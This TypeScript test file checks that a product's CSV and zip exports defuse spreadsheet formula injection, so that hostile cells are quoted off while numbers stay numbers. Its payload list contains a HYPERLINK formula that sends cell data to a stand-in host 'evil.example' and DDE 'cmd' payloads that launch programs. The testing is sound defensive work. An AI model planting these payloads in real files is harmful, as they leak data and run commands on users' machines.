// CSV formula injection (OWASP): a cell that starts with =, +, -, @, tab or carriage return is run
// by spreadsheets as a formula. Every CSV file the product writes, on its own and in the zip, must
// hold such text as text (a single quote in front), while numbers such as -3 stay numbers.
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import type { Publication } from '@lip/core/snapshot';
import { csvField, neutraliseFormula, renderCsv, renderZip } from '../src/index.ts';
import { parseCsv, parseCsvRecords } from './csv-parse.ts';
import { fixturePublication } from './fixtures.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"details")';
const PAYLOADS = [
  HYPERLINK,
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
/** Free text people type, which reaches the open data files. */
const FREE_TEXT = new Set([
  'title',
  'description',
  'name',
  'ownerName',
  'budgetLine',
  'commentary',
]);

/** The fixture with every free text field starting with a formula, and breakdown values too. */
function hostilePublication(): Publication {
  let n = 0;
  const payload = () => PAYLOADS[n++ % PAYLOADS.length]!;
  const poison = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string') {
      if (FREE_TEXT.has(key)) return `${payload()}${value}`;
      if (key === 'breakdown' && value.includes(':'))
        return value.replace(/:(.*)$/, (_m, v: string) => `:${payload()}${v}`);
      return value;
    }
    if (Array.isArray(value)) return value.map((v) => poison(v, key));
    if (value && typeof value === 'object')
      return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, k)]));
    return value;
  };
  const publication = poison(fixturePublication()) as Publication;
  // The title from the probe, exactly, on the first commitment.
  publication.snapshot.commitments[0]!.title = HYPERLINK;
  return publication;
}

const LIVE = /^[=+\-@\t\r]/;
const NUMBER = /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/;

function liveFormulas(content: string): string[] {
  return parseCsv(content)
    .flat()
    .filter((cell) => LIVE.test(cell) && !NUMBER.test(cell));
}

describe('CSV formula injection', () => {
  const publication = hostilePublication();
  const { files } = renderCsv(publication);

  it('writes no live formula in any CSV file, and keeps the text readable', () => {
    expect(files.length).toBeGreaterThanOrEqual(6);
    for (const file of files) expect(liveFormulas(file.content), file.name).toEqual([]);
    const commitments = parseCsvRecords(files.find((f) => f.name === 'commitments.csv')!.content);
    expect(commitments.map((c) => c.title)).toContain(`'${HYPERLINK}`);
    // Every payload reached some file, and came out quoted-off.
    const cells = files.flatMap((f) => parseCsv(f.content).flat());
    for (const p of PAYLOADS)
      expect(
        cells.some((c) => c.startsWith(`'${p}`)),
        JSON.stringify(p),
      ).toBe(true);
  });

  it('does the same inside the zip (every format and the CSV-only download)', async () => {
    for (const formats of [undefined, ['csv' as const]]) {
      const zip = await JSZip.loadAsync(await renderZip(publication, { formats, stem: 'x' }));
      const csvNames = Object.keys(zip.files).filter((n) => n.endsWith('.csv'));
      expect(csvNames.length).toBe(files.length);
      for (const name of csvNames) {
        const content = await zip.file(name)!.async('string');
        expect(liveFormulas(content), name).toEqual([]);
        expect(content).not.toContain(`,${HYPERLINK.slice(0, 10)}`);
      }
    }
  });

  it('leaves numbers, symbols and ordinary text as they are', () => {
    for (const value of [
      '-3',
      '-0.5',
      '+2',
      '-1e3',
      '12500.00',
      '0',
      'c',
      'low',
      'S1; S3',
      'a=b',
      'x-y',
    ])
      expect(neutraliseFormula(value), value).toBe(value);
    for (const value of ['=1+1', '+', '-', '@x', '-3+1', '-0.5x', '\tx', '\rx'])
      expect(neutraliseFormula(value), JSON.stringify(value)).toBe(`'${value}`);
    expect(csvField('-3')).toBe('-3');
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvField('\t=1')).toBe(`'\t=1`);
  });
});
